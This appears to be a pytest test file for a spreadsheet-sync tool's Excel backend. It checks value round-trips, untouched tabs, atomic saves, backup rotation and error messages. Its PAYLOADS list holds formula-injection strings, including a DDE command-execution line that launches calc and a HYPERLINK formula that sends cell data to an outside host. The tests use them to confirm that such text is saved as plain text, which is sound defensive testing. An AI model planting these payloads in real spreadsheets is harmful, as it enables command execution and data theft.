"""The .xlsx backend against real files: values round-trip, other tabs stay as they were,
text stays text, and saves are atomic with backups. (The zip-level writer's own guarantees
are in test_xlsx_patch.py.)"""

from __future__ import annotations

import datetime as dt
import os
import re
import tempfile
import zipfile
from pathlib import Path

import openpyxl
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from sheets_sync.backends.excel import ExcelBackend
from sheets_sync.backends.xlsx.backups import BACKUP_DIR
from sheets_sync.errors import UsageError, WorkbookAccessError
from sheets_sync.model import Chart, Sheet, SheetFormat, Table, cell_key, is_blank

PAYLOADS = [
    '=HYPERLINK("http://x/?"&A1)',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    '=IMPORTXML(A1,"//a")',
    "=1+1",
    "=cmd|' /C calc'!A0",
]

TYPED_ROWS = [
    ["P-001", 3, 2.5, dt.date(2024, 3, 1), True, None, "Ada Lovelace"],
    ["P-002", -7, 0.1, dt.datetime(2024, 3, 2, 17, 45), False, "note", "  spaced  "],
    [None, None, None, None, None, None, None],  # a blank row in the middle keeps its place
    ["P-004", 10**12, 1e-3, dt.date(1999, 12, 31), True, "multi\nline", "Zoë 😀"],
]
TYPED_HEADER = ["Pair ID", "Count", "Ratio", "When", "Flag", "Maybe", "Name"]


# -- helpers ---------------------------------------------------------------------------


def make_workbook(path: Path, tabs: dict[str, list[list[object]]]) -> Path:
    """A plain workbook made by openpyxl, the way a coordinator's file might look."""
    book = openpyxl.Workbook()
    book.remove(book.active)
    for name, grid in tabs.items():
        ws = book.create_sheet(name)
        for row in grid:
            ws.append(row)
    book.save(path)
    return path


def coordinator_workbook(path: Path) -> Path:
    make_workbook(
        path,
        {
            "Settings": [["Setting", "Value"], ["Program", "Spring"], ["Check-in every", 14]],
            "Mentors": [
                ["Email", "Name", "Capacity", "Joined", "Total"],
                ["a@x.org", "Ann", 2, dt.date(2024, 1, 5), None],
                ["b@x.org", "=not a formula", 1.5, dt.datetime(2024, 2, 1, 9, 30), None],
            ],
            "Pairings": [["Pair ID", "Mentee"], ["OLD-1", "x"], ["OLD-2", "y"], ["OLD-3", "z"]],
            "Notes": [["anything"], ["the coordinator wrote"]],
        },
    )
    book = openpyxl.load_workbook(path)
    book["Mentors"]["E2"] = "=SUM(C2:C3)"  # a real formula must survive a sync
    book["Mentors"]["B3"].data_type = "s"  # and text that looks like one stays text
    book["Mentors"].merge_cells("A5:B5")
    book.save(path)
    return path


def cells(path: Path, tab: str) -> dict[str, tuple[object, str, str]]:
    ws = openpyxl.load_workbook(path)[tab]
    return {
        c.coordinate: (c.value, c.data_type, c.number_format)
        for row in ws.iter_rows()
        for c in row
        if c.value is not None
    }


def sheet_part(path: Path, tab: str) -> str:
    """The zip part holding one tab's XML."""
    with zipfile.ZipFile(path) as archive:
        book = archive.read("xl/workbook.xml").decode()
        rels = archive.read("xl/_rels/workbook.xml.rels").decode()
    rel_id = re.search(rf'<sheet[^>]*name="{re.escape(tab)}"[^>]*r:id="(\w+)"', book)
    assert rel_id, f"no tab {tab}"
    target = re.search(rf'Id="{rel_id.group(1)}"[^>]*Target="([^"]+)"', rels) or re.search(
        rf'Target="([^"]+)"[^>]*Id="{rel_id.group(1)}"', rels
    )
    assert target
    return "xl/" + target.group(1).removeprefix("/xl/")


def sheet_xml(path: Path, tab: str) -> bytes:
    with zipfile.ZipFile(path) as archive:
        return archive.read(sheet_part(path, tab))


def edit_zip(path: Path, change: dict[str, bytes], edit: dict[str, tuple[bytes, bytes]]) -> None:
    """Rewrite an .xlsx: add/replace whole parts, and replace text inside parts."""
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    parts.update(change)
    for name, (old, new) in edit.items():
        assert old in parts[name], (name, old)
        parts[name] = parts[name].replace(old, new, 1)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)


def stray_files(folder: Path, keep: set[str]) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name not in keep | {BACKUP_DIR})


def pairings(rows: int = 2) -> Sheet:
    table = Table(
        "Pairings",
        ["Pair ID", "Mentee", "Status", "Why"],
        [[f"P-{i:03}", f"Mentee {i}", "Active", "shared goals"] for i in range(1, rows + 1)],
    )
    return Sheet(table)


def dashboard() -> Sheet:
    table = Table("Dashboard", ["Status", "Pairs"], [["Active", 4], ["Paused", 1], ["Ended", 2]])
    chart = Chart("Pairs by status", label_column=0, value_column=1, first_row=2, last_row=4)
    return Sheet(table, SheetFormat(chart=chart, bold_first_column=True))


def formatted_pairings() -> Sheet:
    fmt = SheetFormat(
        widths={"Why": 45},
        dropdowns={"Status": ["Proposed", "Active", "Paused", "Ended", "Rematch", "Rejected"]},
        dropdown_ranges={"Mentee": "Lists!$A$2:$A$9"},
        highlights={"Status": {"Overdue": "FFC7CE", "Paused": "FFEB9C"}},
        wrap_columns=("Why",),
    )
    return Sheet(pairings(3).table, fmt)


# -- reading and round trips -------------------------------------------------------------


def test_round_trip_keeps_types(tmp_path: Path) -> None:
    backend = ExcelBackend(tmp_path / "program.xlsx")
    backend.create([Sheet(Table("Pairings", TYPED_HEADER, [list(r) for r in TYPED_ROWS]))])

    table = backend.read().get("pairings")
    assert table is not None
    assert table.header == TYPED_HEADER
    assert table.rows == TYPED_ROWS
    assert [type(v) for v in table.rows[0]] == [str, int, float, dt.date, bool, type(None), str]
    assert isinstance(table.rows[1][3], dt.datetime)
    assert table.keys() == Table("x", TYPED_HEADER, TYPED_ROWS).keys()


def test_write_then_read_again_is_stable(tmp_path: Path) -> None:
    path = coordinator_workbook(tmp_path / "program.xlsx")
    backend = ExcelBackend(path)
    sheet = Sheet(Table("Pairings", TYPED_HEADER, [list(r) for r in TYPED_ROWS]))
    backend.write([sheet])
    first = backend.read().get("Pairings")
    backend.write([Sheet(first)])  # what was read, written back, reads the same
    assert backend.read().get("Pairings") == first


def test_read_keeps_sheet_row_numbers_and_hidden_tabs(tmp_path: Path) -> None:
    path = tmp_path / "program.xlsx"
    book = openpyxl.Workbook()
    ws = book.active
    ws.title = "Mentees"
    ws["B1"], ws["B4"], ws["C4"] = "Email", "a@x.org", "12:30"
    hidden = book.create_sheet("Lists")
    hidden["A1"], hidden["A2"], hidden["A3"] = "Status", "Active", dt.time(9, 15)
    hidden.sheet_state = "hidden"
    book.save(path)

    snapshot = ExcelBackend(path).read()
    mentees = snapshot.get("Mentees")
    assert mentees is not None
    assert mentees.header == ["", "Email", ""]
    assert list(mentees.records()) == [(4, [None, "a@x.org", "12:30"])]
    lists = snapshot.get("lists")
    assert lists is not None and lists.rows == [["Active"], [dt.time(9, 15)]]


@settings(max_examples=40, deadline=None)
@given(st.lists(st.text(max_size=30), min_size=1, max_size=4))
@example(["_x0041_", "a\r\nb", "x\x00y\x1f", " ", "\t", "=1+1", "-", "@"])
def test_any_text_reads_back_as_written(values: list[str]) -> None:
    with tempfile.TemporaryDirectory() as folder:
        backend = ExcelBackend(Path(folder) / "t.xlsx")
        backend.create([Sheet(Table("T", ["ID", "Text"], [[i, v] for i, v in enumerate(values)]))])
        table = backend.read().get("T")
    assert table is not None
    expected = []
    for value in values:
        text = ILLEGAL_CHARACTERS_RE.sub("", value.replace("\r\n", "\n").replace("\r", "\n"))
        expected.append(None if is_blank(text) else text)
    assert table.values(1) == expected


@settings(max_examples=30, deadline=None)
@given(
    st.lists(
        st.one_of(
            st.integers(-(10**15), 10**15),
            # Excel keeps ~15 significant digits, so values carry at most 6 decimals here;
            # -0.0 is left out: cell_key gives "-0" for it but "0" for the 0 read back.
            st.floats(-1e6, 1e6, allow_nan=False).map(lambda x: round(x, 6) + 0.0),
            st.booleans(),
            st.dates(dt.date(1900, 3, 1), dt.date(9999, 12, 31)),
        ),
        min_size=1,
        max_size=6,
    )
)
def test_numbers_dates_and_booleans_compare_equal_by_cell_key(values: list[object]) -> None:
    with tempfile.TemporaryDirectory() as folder:
        backend = ExcelBackend(Path(folder) / "t.xlsx")
        backend.create([Sheet(Table("T", ["Value"], [[v] for v in values]))])
        table = backend.read().get("T")
    assert table is not None
    assert [cell_key(v) for v in table.values(0)] == [cell_key(v) for v in values]


@pytest.mark.parametrize(
    ("name", "content", "says"),
    [
        ("missing.xlsx", None, "Cannot find"),
        ("empty.xlsx", b"", "empty"),
        ("roster.xlsx", b"Email,Name\na@x.org,Ann\n", "not an Excel workbook"),
        ("noise.xlsx", bytes(range(256)) * 4, "not an Excel workbook"),
        ("locked.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "password"),
        ("half.xlsx", b"PK\x03\x04" + b"\0" * 100, "damaged"),
        ("folder.xlsx", "dir", "folder"),
    ],
)
def test_unreadable_files_give_a_clear_error(
    tmp_path: Path, name: str, content: bytes | str | None, says: str
) -> None:
    path = tmp_path / name
    if content == "dir":
        path.mkdir()
    elif isinstance(content, bytes):
        path.write_bytes(content)
    with pytest.raises(WorkbookAccessError) as caught:
        ExcelBackend(path).read()
    assert caught.value.exit_code == 3
    assert name in caught.value.message and says in caught.value.message
    assert caught.value.fix
    assert "Traceback" not in str(caught.value)


# -- writing ---------------------------------------------------------------------------


def test_write_leaves_other_tabs_exactly_as_they_were(tmp_path: Path) -> None:
    path = coordinator_workbook(tmp_path / "program.xlsx")
    before = {tab: cells(path, tab) for tab in ("Settings", "Mentors", "Notes")}

    ExcelBackend(path).write([pairings(), dashboard()])

    for tab, expected in before.items():
        assert cells(path, tab) == expected, tab
    book = openpyxl.load_workbook(path)
    assert book["Mentors"]["E2"].data_type == "f"
    assert book["Mentors"]["B3"].data_type == "s"
    assert "A5:B5" in {str(r) for r in book["Mentors"].merged_cells.ranges}


def test_write_replaces_owned_tabs_in_place_and_appends_new_ones(tmp_path: Path) -> None:
    path = coordinator_workbook(tmp_path / "program.xlsx")
    book = openpyxl.load_workbook(path)
    book["Pairings"].title = "Old"
    book["Old"].title = "pairings"  # the coordinator retyped the tab name
    book.save(path)

    ExcelBackend(path).write([pairings(rows=1), dashboard()])

    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["Settings", "Mentors", "pairings", "Notes", "Dashboard"]
    rows = [list(r) for r in book["pairings"].iter_rows(values_only=True)]
    assert rows == [
        ["Pair ID", "Mentee", "Status", "Why"],
        ["P-001", "Mentee 1", "Active", "shared goals"],
    ]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_that_looks_like_a_formula_is_written_as_text(tmp_path: Path, payload: str) -> None:
    path = coordinator_workbook(tmp_path / "program.xlsx")
    table = Table("Pairings", ["Pair ID", "Notes"], [["P-1", payload], [payload, "ok"]])
    backend = ExcelBackend(path)
    backend.write([Sheet(table)])

    ws = openpyxl.load_workbook(path)["Pairings"]
    for coordinate in ("B2", "A3"):
        assert ws[coordinate].value == payload
        assert ws[coordinate].data_type == "s"
    xml = sheet_xml(path, "Pairings")
    assert b"<f>" not in xml and b"<f " not in xml
    read_back = backend.read().get("Pairings")
    assert read_back is not None and read_back.rows == table.rows


def test_characters_illegal_in_xml_are_dropped_not_fatal(tmp_path: Path) -> None:
    path = coordinator_workbook(tmp_path / "program.xlsx")
    table = Table("Pairings", ["Pair\x01 ID", "Notes"], [["P-1", "bell\x07 and nul\x00 end"]])
    ExcelBackend(path).write([Sheet(table)])
    ws = openpyxl.load_workbook(path)["Pairings"]
    assert (ws["A1"].value, ws["B2"].value) == ("Pair ID", "bell and nul end")


def test_formatting_is_applied(tmp_path: Path) -> None:
    path = coordinator_workbook(tmp_path / "program.xlsx")
    log = Sheet(Table("Sync Log", ["When", "Changed"], [[dt.datetime(2024, 5, 1, 8, 0), "x"]]))
    log.format.hidden = True
    dates = Sheet(Table("Schedule", ["Pair ID", "Date"], [["P-1", dt.date(2024, 5, 2)]]))
    ExcelBackend(path).write([formatted_pairings(), dashboard(), log, dates])

    book = openpyxl.load_workbook(path)
    ws = book["Pairings"]
    assert ws["A1"].font.bold and ws["A1"].fill.fill_type == "solid"
    assert ws.freeze_panes == "A2"
    assert ws.column_dimensions["D"].width == 45
    assert 10 <= ws.column_dimensions["B"].width <= 60
    assert ws["D2"].alignment.wrap_text
    validations = {str(v.sqref): v for v in ws.data_validations.dataValidation}
    status = validations["C2:C1000"]
    assert status.type == "list" and status.formula1.startswith('"Proposed,Active')
    assert status.errorStyle == "warning" and status.allow_blank and not status.showDropDown
    assert validations["B2:B1000"].formula1 == "Lists!$A$2:$A$9"
    rules = [rule for cf in ws.conditional_formatting for rule in cf.rules]
    assert sorted(r.formula[0] for r in rules) == ['"Overdue"', '"Paused"']
    assert book["Dashboard"]["A2"].font.bold
    assert len(book["Dashboard"]._charts) == 1
    assert book["Sync Log"].sheet_state == "hidden"
    assert book["Sync Log"]["A2"].number_format == "yyyy-mm-dd hh:mm"
    assert book["Schedule"]["B2"].number_format == "yyyy-mm-dd"


def test_rewriting_a_tab_drops_its_old_validations_and_formats_but_keeps_drawings(
    tmp_path: Path,
) -> None:
    path = tmp_path / "program.xlsx"
    backend = ExcelBackend(path)
    backend.create([formatted_pairings(), dashboard()])
    backend.write([pairings(), Sheet(dashboard().table)])
    book = openpyxl.load_workbook(path)
    assert not book["Pairings"].data_validations.dataValidation
    assert not list(book["Pairings"].conditional_formatting)
    assert book["Pairings"].freeze_panes == "A2"
    # A drawing on a tab may hold what the coordinator drew, so it is never dropped.
    assert len(book["Dashboard"]._charts) == 1


def test_create_lays_out_exactly_the_given_tabs(tmp_path: Path) -> None:
    path = tmp_path / "new.xlsx"
    ExcelBackend(path).create([Sheet(Table("Settings", ["Setting", "Value"])), dashboard()])
    assert openpyxl.load_workbook(path).sheetnames == ["Settings", "Dashboard"]
    assert stray_files(tmp_path, {"new.xlsx"}) == []
    assert not (tmp_path / BACKUP_DIR).exists()


def test_create_refuses_an_existing_file(tmp_path: Path) -> None:
    path = make_workbook(tmp_path / "program.xlsx", {"Mine": [["x"]]})
    data = path.read_bytes()
    with pytest.raises(UsageError) as caught:
        ExcelBackend(path).create([pairings()])
    assert "already exists" in caught.value.message and caught.value.fix
    assert path.read_bytes() == data


# -- atomic saves and backups ----------------------------------------------------------


def test_each_write_keeps_a_backup_and_old_ones_are_rotated(tmp_path: Path) -> None:
    path = coordinator_workbook(tmp_path / "program.xlsx")
    backend = ExcelBackend(path, keep_backups=2)
    versions = []
    for rows in range(1, 5):
        versions.append(path.read_bytes())
        backend.write([pairings(rows)])

    backups = backend.backups()
    assert len(backups) == 2
    assert all(re.fullmatch(r"program-\d{8}-\d{6}-\d{6}\.xlsx", p.name) for p in backups)
    assert [p.read_bytes() for p in backups] == versions[-2:]
    assert all(p.parent == tmp_path / BACKUP_DIR for p in backups)
    assert stray_files(tmp_path, {"program.xlsx"}) == []


def test_backups_of_other_workbooks_are_left_alone(tmp_path: Path) -> None:
    first = coordinator_workbook(tmp_path / "program.xlsx")
    other = coordinator_workbook(tmp_path / "program-2.xlsx")
    ExcelBackend(other).write([pairings()])
    for _ in range(3):
        ExcelBackend(first, keep_backups=1).write([pairings()])
    assert len(ExcelBackend(other).backups()) == 1
    assert len(ExcelBackend(first).backups()) == 1


def test_a_value_that_cannot_be_written_leaves_the_file_untouched(tmp_path: Path) -> None:
    path = coordinator_workbook(tmp_path / "program.xlsx")
    data = path.read_bytes()
    bad = Table("Pairings", ["Pair ID", "Oops"], [["P-1", object()]])
    with pytest.raises(WorkbookAccessError) as caught:
        ExcelBackend(path).write([pairings(), Sheet(bad)])
    assert "program.xlsx" in caught.value.message
    assert path.read_bytes() == data
    assert stray_files(tmp_path, {"program.xlsx"}) == []


def test_a_failure_after_the_temp_file_is_written_cleans_up(tmp_path: Path) -> None:
    path = coordinator_workbook(tmp_path / "program.xlsx")
    data = path.read_bytes()
    (tmp_path / BACKUP_DIR).write_text("a file where the backup folder should be")
    with pytest.raises(WorkbookAccessError):
        ExcelBackend(path).write([pairings()])
    assert path.read_bytes() == data
    assert stray_files(tmp_path, {"program.xlsx"}) == []


def test_a_read_only_folder_leaves_the_file_untouched(tmp_path: Path) -> None:
    folder = tmp_path / "shared"
    folder.mkdir()
    path = coordinator_workbook(folder / "program.xlsx")
    data = path.read_bytes()
    folder.chmod(0o555)
    try:
        if os.access(folder, os.W_OK):
            pytest.skip("this account may write anywhere (root), so nothing is read-only")
        with pytest.raises(WorkbookAccessError) as caught:
            ExcelBackend(path).write([pairings()])
        assert "Close the workbook" in (caught.value.fix or "")
    finally:
        folder.chmod(0o755)
    assert path.read_bytes() == data
    assert stray_files(folder, {"program.xlsx"}) == []


def test_a_missing_workbook_is_not_silently_created_by_write(tmp_path: Path) -> None:
    with pytest.raises(WorkbookAccessError):
        ExcelBackend(tmp_path / "nope.xlsx").write([pairings()])
    assert list(tmp_path.iterdir()) == []
